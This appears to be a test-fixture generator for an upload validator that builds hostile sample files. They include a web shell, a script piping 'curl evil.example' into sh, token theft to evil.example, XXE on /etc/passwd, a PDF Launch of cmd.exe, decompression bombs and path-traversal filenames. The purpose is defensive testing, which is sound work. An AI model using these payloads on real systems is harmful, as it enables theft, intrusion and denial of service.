// FILE-1's corpus: files that must never become available, made by script. The same seed makes the same files.
import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { drawDocument, drawPicture } from '#test/builders/upload.ts';
import { createRandom } from '#test/random.ts';

export interface SampleFile {
  name: string;
  bytes: Buffer;
}

/** In two pieces, so that this file is no virus to a scanner. */
export const EICAR = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-` + 'ANTIVIRUS-TEST-FILE!$H+H*';

const FORMATS = ['jpeg', 'png', 'webp', 'gif'] as const;
const latin = (text: string) => Buffer.from(text, 'latin1');

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const HTML = '<!doctype html><html><body><script>fetch("//evil.example/"+localStorage.token)</script></body></html>';
const PHP = '<?php system($_GET["c"]); __HALT_COMPILER(); ?>';
const EXECUTABLE = latin(
  `MZ\x90\x00${'\x00'.repeat(60)}This program cannot be run in DOS mode.\r\n$${'\x00'.repeat(500)}`,
);

/** A ZIP with one entry, as small as one can be. */
function zipOf(name: string, content: Buffer): Buffer {
  const packed = deflateSync(content).subarray(2, -4);
  const header = (mark: string, extra: number) => {
    const bytes = Buffer.alloc(extra);
    bytes.write(mark, 0, 'latin1');
    return bytes;
  };
  const local = header('PK\x03\x04', 30);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = header('PK\x01\x02', 46);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = header('PK\x05\x06', 22);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + packed.length, 16);
  return Buffer.concat([local, latin(name), packed, central, latin(name), end]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([latin(type), data])));
  return Buffer.concat([length, latin(type), data, crc]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xff_ff_ff_ff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xed_b8_83_20 : crc >>> 1;
  }
  return ~crc >>> 0;
}

export function pngOf(width: number, height: number, bits: number, pixels: Buffer): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = bits;
  return Buffer.concat([
    latin('\x89PNG\r\n\x1a\n'),
    pngChunk('IHDR', head),
    pngChunk('IDAT', deflateSync(pixels, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG with these words in a comment. */
export function commentJpeg(jpeg: Buffer, text: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(text.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), latin('\xff\xfe'), length, latin(text), jpeg.subarray(2)]);
}

/** A PNG with these words in a chunk behind its header, which is always 33 bytes long. */
export function commentPng(png: Buffer, text: string): Buffer {
  return Buffer.concat([png.subarray(0, 33), pngChunk('tEXt', latin(`Comment\x00${text}`)), png.subarray(33)]);
}

/** A PDF of the given objects, with a table of contents that is right. */
export function pdfOf(objects: (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [latin('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = 9;
  for (const [index, object] of objects.entries()) {
    const bytes = Buffer.concat([latin(`${index + 1} 0 obj\n`), Buffer.from(object as Buffer), latin('\nendobj\n')]);
    offsets.push(at);
    at += bytes.length;
    parts.push(bytes);
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${trailer}>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...parts, latin(table)]);
}

export function streamOf(content: Buffer, extra = ''): Buffer {
  return Buffer.concat([latin(`<< /Length ${content.length} ${extra}>>\nstream\n`), content, latin('\nendstream')]);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>';
const DRAWING = latin('0.1 0.4 0.3 rg 72 72 200 200 re f');
export const onePage = (catalog: string, ...more: (string | Buffer)[]) =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalog}>>`, PAGES, PAGE, streamOf(DRAWING), ...more]);

/** As `pdfOf`, but with its objects compressed, so that no name in them can be read from outside. The last one is the page's content. */
function packedPdfOf(objects: string[], content: Buffer): Buffer {
  const body = objects.join('\n');
  const places = objects.map(
    (_, index) => `${index + 1} ${objects.slice(0, index).join('\n').length + (index > 0 ? 1 : 0)}`,
  );
  const heads = `${places.join(' ')}\n`;
  const [packedId, contentId, tableId] = [objects.length + 1, objects.length + 2, objects.length + 3];
  const start = latin('%PDF-1.7\n');
  const wrap = (id: number, bytes: Buffer) => Buffer.concat([latin(`${id} 0 obj\n`), bytes, latin('\nendobj\n')]);
  const packing = `/Type /ObjStm /N ${objects.length} /First ${heads.length} /Filter /FlateDecode `;
  const packed = wrap(packedId, streamOf(deflateSync(latin(heads + body)), packing));
  const drawn = wrap(contentId, streamOf(content));
  const row = (type: number, place: number, extra: number) => {
    const bytes = Buffer.alloc(7);
    bytes[0] = type;
    bytes.writeUInt32BE(place, 1);
    bytes.writeUInt16BE(extra, 5);
    return bytes;
  };
  const at = start.length + packed.length + drawn.length;
  const rows = Buffer.concat([
    row(0, 0, 65_535),
    ...objects.map((_, index) => row(2, packedId, index)),
    row(1, start.length, 0),
    row(1, start.length + packed.length, 0),
    row(1, at, 0),
  ]);
  const table = `/Type /XRef /Size ${tableId + 1} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode `;
  const end = latin(`startxref\n${at}\n%%EOF\n`);
  return Buffer.concat([start, packed, drawn, wrap(tableId, streamOf(deflateSync(rows), table)), end]);
}

export const packedPage = (catalog: string) =>
  packedPdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
      PAGES,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Resources << >> >>',
    ],
    DRAWING,
  );

/** Disguises: something else under the name of a picture or a document. */
function disguises(): SampleFile[] {
  const contents: Record<string, Buffer> = {
    svg: latin(SVG),
    'svg-xxe': latin(`<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
    html: latin(HTML),
    'html-comment': latin(`<!-- GIF89a -->${HTML}`),
    php: latin(PHP),
    script: latin('#!/bin/sh\ncurl evil.example | sh\n'),
    javascript: latin('eval(atob("YWxlcnQoMSk="))'),
    executable: EXECUTABLE,
    elf: latin(`\x7fELF\x02\x01\x01${'\x00'.repeat(300)}`),
    zip: zipOf('a.txt', latin('hello')),
    jar: zipOf('META-INF/MANIFEST.MF', latin('Main-Class: Evil')),
    docm: zipOf('word/vbaProject.bin', latin('Auto_Open')),
    'zip-bomb': zipOf('zeros', Buffer.alloc(30 * 1024 * 1024)),
    'zip-of-bombs': zipOf('inner.zip', zipOf('zeros', Buffer.alloc(20 * 1024 * 1024))),
    'gzip-bomb': gzipSync(Buffer.alloc(30 * 1024 * 1024)),
    rtf: latin('{\\rtf1\\object\\objdata 0105000002000000}'),
    postscript: latin('%!PS-Adobe-3.0\n(%pipe%id) (w) file\n'),
    mvg: latin('push graphic-context\nfill \'url(https://evil.example/"|id")\'\npop graphic-context\n'),
    heic: latin('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic'),
    mp4: latin('\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42'),
    psd: latin(`8BPS\x00\x01${'\x00'.repeat(200)}`),
    bmp: latin(`BM${'\x00'.repeat(200)}`),
    ico: latin(`\x00\x00\x01\x00\x01\x00${'\x00'.repeat(100)}`),
    eicar: latin(EICAR),
    nothing: latin('\x00'),
    text: latin('just words'),
  };
  return Object.entries(contents).flatMap(([kind, bytes]) =>
    ['photo.jpg', 'photo.png', 'essay.pdf'].map((name) => ({ name: `${kind} ${name}`, bytes })),
  );
}

/** Files that are a picture and something else at once. */
async function polyglots(): Promise<SampleFile[]> {
  const appended: Record<string, Buffer> = {
    html: latin(HTML),
    svg: latin(SVG),
    php: latin(PHP),
    zip: zipOf('run.class', latin('code')),
    phar: Buffer.concat([latin(PHP), zipOf('a', latin('b'))]),
    pdf: onePage(''),
    rar: latin(`Rar!\x1a\x07\x00${'\x00'.repeat(40)}`),
    '7z': latin(`7z\xbc\xaf\x27\x1c${'\x00'.repeat(40)}`),
    executable: EXECUTABLE,
    eicar: latin(EICAR),
  };
  const files: SampleFile[] = [];
  const pictures = await Promise.all(FORMATS.map((format) => drawPicture({ width: 32, height: 24, format })));
  for (const [index, picture] of pictures.entries()) {
    const format = FORMATS[index] ?? 'png';
    for (const [kind, bytes] of Object.entries(appended))
      files.push({ name: `${format} and ${kind}.${format}`, bytes: Buffer.concat([picture, bytes]) });
  }
  const [jpeg = Buffer.alloc(0), png = Buffer.alloc(0)] = pictures;
  for (const [kind, text] of Object.entries({ html: HTML, php: PHP, svg: SVG })) {
    files.push({ name: `jpeg comment ${kind}.jpg`, bytes: commentJpeg(jpeg, text) });
    files.push({ name: `png text ${kind}.png`, bytes: commentPng(png, text) });
    files.push({ name: `gif script ${kind}.gif`, bytes: latin(`GIF89a/*${text}*/=1;`) });
  }
  const described = [HTML, PHP, SVG].map(async (text, index) => ({
    name: `exif ${index}.jpg`,
    bytes: await sharp(jpeg)
      .withExif({ IFD0: { ImageDescription: text } })
      .jpeg()
      .toBuffer(),
  }));
  return [...files, ...(await Promise.all(described))];
}

function documents(): SampleFile[] {
  const js = '(app.alert\\(1\\))';
  const active: Record<string, Buffer> = {
    'open action': onePage(`/OpenAction << /S /JavaScript /JS ${js} >> `),
    'escaped name': onePage(`/OpenAction << /S /J#61vaScript /JS ${js} >> `),
    'names tree': onePage(`/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${js} >>] >> >> `),
    'by reference': onePage('/OpenAction 5 0 R ', `<< /S /JavaScript /JS 6 0 R >>`, streamOf(latin('app.alert(1)'))),
    'additional action': onePage(`/AA << /WC << /S /JavaScript /JS ${js} >> >> `),
    compressed: packedPage(`/OpenAction << /S /JavaScript /JS ${js} >> `),
    // Whoever takes the first header for a stream, and reads on behind its end, misses the real one within.
    'compressed behind a decoy': Buffer.concat([
      latin('%PDF-1.7\n% /ObjStm stream\n'),
      packedPage(`/OpenAction << /S /JavaScript /JS ${js} >> `),
    ]),
    launch: onePage('/OpenAction << /S /Launch /F (cmd.exe) >> '),
    'embedded file': onePage(
      '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ',
      '<< /Type /Filespec /F (a.exe) >>',
    ),
    'rich media': onePage('/OpenAction 5 0 R ', '<< /Type /Annot /Subtype /RichMedia >>'),
    'submit form': onePage('/OpenAction << /S /SubmitForm /F (https://evil.example) >> '),
    'import data': onePage('/OpenAction << /S /ImportData /F (\\\\\\\\evil\\\\share) >> '),
    eicar: onePage('', streamOf(latin(EICAR))),
    'compressed eicar': onePage('', streamOf(deflateSync(latin(EICAR)), '/Filter /FlateDecode ')),
    'eicar behind': Buffer.concat([onePage(''), latin(EICAR)]),
    'html behind': Buffer.concat([onePage(''), latin(HTML)]),
    'zip behind': Buffer.concat([onePage(''), zipOf('a.class', latin('x'))]),
    'php behind': Buffer.concat([onePage(''), latin(PHP)]),
    'no pages': pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    'circle of pages': pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 9 >>']),
    'a million pages': pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
      PAGE,
      streamOf(DRAWING),
    ]),
    'no catalog': pdfOf(['<< /Type /Nothing >>']),
    'only a header': latin('%PDF-1.7\n'),
    'only both ends': latin('%PDF-1.7\n%%EOF\n'),
    // 400 MB of drawing in 400 KB.
    bomb: pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 31 >>',
      PAGE,
      streamOf(deflateSync(Buffer.alloc(60 * 1024 * 1024, 'q ')), '/Filter /FlateDecode '),
    ]),
  };
  return Object.entries(active).flatMap(([kind, bytes]) => [
    { name: `${kind}.pdf`, bytes },
    { name: `${kind} as picture.jpg`, bytes },
  ]);
}

/** Little on disk, much in memory. */
function bombs(): SampleFile[] {
  const jpegHead = (side: number) =>
    Buffer.concat([
      latin('\xff\xd8\xff\xc0\x00\x11\x08'),
      Buffer.from([side >> 8, side & 255, side >> 8, side & 255]),
      latin('\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00'),
      Buffer.alloc(2_000),
      latin('\xff\xd9'),
    ]);
  const gifHead = (side: number) => {
    const size = Buffer.from([side & 255, side >> 8, side & 255, side >> 8]);
    return Buffer.concat([
      latin('GIF89a'),
      size,
      latin('\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00'),
      size,
      latin('\x00\x02\x02D\x01\x00;'),
    ]);
  };
  const webpHead = Buffer.concat([
    latin('RIFF\x1e\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\xff\x3f\x00\xff\x3f\x00'),
  ]);
  const sides = [20_000, 30_000, 40_000, 50_000, 60_000];
  return sides.flatMap((side) => [
    { name: `png ${side} header only.png`, bytes: pngOf(side, side, 8, Buffer.alloc(100)) },
    { name: `png ${side} as jpeg.jpg`, bytes: pngOf(side, side, 16, Buffer.alloc(50)) },
    // Black and white, with every pixel there: honest but for its size.
    { name: `png ${side} whole.png`, bytes: pngOf(side, 10_000, 1, Buffer.alloc(10_000 * (Math.ceil(side / 8) + 1))) },
    { name: `jpeg ${side}.jpg`, bytes: jpegHead(side) },
    { name: `gif ${side}.gif`, bytes: gifHead(side) },
    { name: `webp ${side}.webp`, bytes: Buffer.concat([webpHead, Buffer.alloc(side / 100)]) },
  ]);
}

/** Cut off, and beginnings with nothing sensible behind them. */
async function fragments(random: () => number): Promise<SampleFile[]> {
  const shares = [0.02, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95];
  const whole = await Promise.all([
    ...FORMATS.map((format) => drawPicture({ width: 200, height: 150, format, noise: true })),
    drawDocument(2, 'cut off'),
  ]);
  const endings = [...FORMATS, 'pdf'];
  const cut = whole.flatMap((bytes, index) =>
    shares.map((share) => ({
      name: `${Math.round(share * 100)} percent.${endings[index]}`,
      bytes: bytes.subarray(0, Math.max(8, Math.floor(bytes.length * share))),
    })),
  );
  const noise = (length: number) => Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
  const begun = [
    '\xff\xd8\xff\xe0',
    '\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR',
    'GIF89a',
    'RIFF\x00\x10\x00\x00WEBPVP8 ',
    '%PDF-1.4\n',
  ];
  const broken = begun.flatMap((head, index) =>
    Array.from({ length: 8 }, (_, round) => ({
      name: `noise ${round}.${endings[index === 3 ? 2 : index === 2 ? 3 : index]}`,
      bytes: Buffer.concat([latin(head), noise(200 + round * 700)]),
    })),
  );
  return [...cut, ...broken];
}

/** Honest bytes under names that are refused before a byte is taken. */
async function names(): Promise<SampleFile[]> {
  const bytes = await drawPicture({ width: 16, height: 16, format: 'png' });
  const bad = [
    '..%2f..%2fetc%2fpasswd.png', '..%2Fphoto.png', '..%5c..%5cwindows.png', '../../etc/passwd', '..\\..\\boot.ini',
    '/etc/passwd', 'a/b.png', 'photo.png\u0000.php', '\u0000', 'photo%00.png', 'photo\r\nset-cookie: a=b.png',
    'photo\u202egnp.exe', 'photo\u2066.png', 'photo\u007f.png', 'photo\u0085.png', '\t', ' ', '', 'x'.repeat(201),
    `${'x'.repeat(252)}.png`, `${'é'.repeat(300)}.png`, 'x'.repeat(100_000),
  ]; // prettier-ignore
  return bad.map((name) => ({ name, bytes }));
}

export async function makeHostileFiles(seed: number): Promise<SampleFile[]> {
  const random = createRandom(seed);
  return [
    ...disguises(),
    ...(await polyglots()),
    ...documents(),
    ...bombs(),
    ...(await fragments(random)),
    ...(await names()),
  ];
}
